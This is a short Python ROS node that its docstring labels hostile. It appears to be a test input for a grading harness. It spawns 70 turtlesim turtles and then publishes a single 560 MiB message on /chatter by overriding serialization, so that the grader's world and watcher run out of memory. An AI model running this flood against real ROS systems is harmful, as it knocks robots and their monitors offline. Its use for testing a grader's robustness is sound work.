#!/usr/bin/env python3
"""HOSTILE: gives the grader's world and watcher more than they should
hold: 70 turtles, then one message of 560 MiB on /chatter (rospy reads a
message of any length before it looks at it). The message is written
straight into rospy's buffer, so this node itself holds it only twice."""
import struct

import rospy
from std_msgs.msg import String
from turtlesim.srv import Spawn

SIZE = 560 * 1024 * 1024


class Huge(String):
    def serialize(self, buff):
        buff.write(struct.pack('<I', SIZE))
        chunk = b'P' * (1 << 20)
        for _ in range(SIZE >> 20):
            buff.write(chunk)


rospy.init_node('hoard')
chatter = rospy.Publisher('chatter', String, queue_size=1)
rospy.sleep(3.0)
spawn = rospy.ServiceProxy('spawn', Spawn)
for n in range(70):
    try:
        spawn(1.0 + n % 9, 1.0 + n // 9, 0.0, '')
    except rospy.ServiceException as e:
        rospy.loginfo('spawn %d refused: %s', n, e)
chatter.publish(Huge())
rospy.spin()
